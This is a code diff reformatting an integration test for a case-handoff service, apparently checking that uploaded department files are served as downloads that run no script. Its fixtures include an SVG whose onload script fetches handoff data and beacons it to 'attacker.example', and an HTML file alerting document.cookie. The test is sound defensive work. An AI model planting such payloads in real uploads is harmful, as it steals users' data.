@@ -11,8 +11,10 @@ import base64
 from tests.integration.referrals.conftest import Agencies
 from tests.integration.referrals.test_handoffs import handed_off_case
 
-SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/v1/handoffs\').then(r => r.text())'
-       b'.then(t => navigator.sendBeacon(\'https://attacker.example/\', t))"><circle r="9"/></svg>')
+SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/v1/handoffs\').then(r => r.text())'
+    b'.then(t => navigator.sendBeacon(\'https://attacker.example/\', t))"><circle r="9"/></svg>'
+)
 HTML = b"<!doctype html><script>alert(document.cookie)</script>"
 
 
@@ -20,12 +22,21 @@ def test_a_departments_file_is_served_as_a_download_that_runs_no_script(referral
     a = referral_agencies
     _, handoff = handed_off_case(a, "housing")
     hid = handoff["handoff_id"]
-    files = [("办理结果.svg", "image/svg+xml", SVG), ("说明.html", "text/html; charset=utf-8", HTML),
-             ("scan.pdf", "application/pdf", b"%PDF-1.4 scan")]
-    responded = a.housing.post(f"/v1/handoffs/{hid}/response", json={
-        "outcome": "resolved", "summary": "已约谈建设单位，工程款已拨付",
-        "files": [{"name": n, "media_type": t, "content_base64": base64.b64encode(c).decode()} for n, t, c in files],
-    })
+    files = [
+        ("办理结果.svg", "image/svg+xml", SVG),
+        ("说明.html", "text/html; charset=utf-8", HTML),
+        ("scan.pdf", "application/pdf", b"%PDF-1.4 scan"),
+    ]
+    responded = a.housing.post(
+        f"/v1/handoffs/{hid}/response",
+        json={
+            "outcome": "resolved",
+            "summary": "已约谈建设单位，工程款已拨付",
+            "files": [
+                {"name": n, "media_type": t, "content_base64": base64.b64encode(c).decode()} for n, t, c in files
+            ],
+        },
+    )
     assert responded.status_code == 200, responded.text
     stored = {f["name"]: f["file_id"] for f in responded.json()["files"]}
 
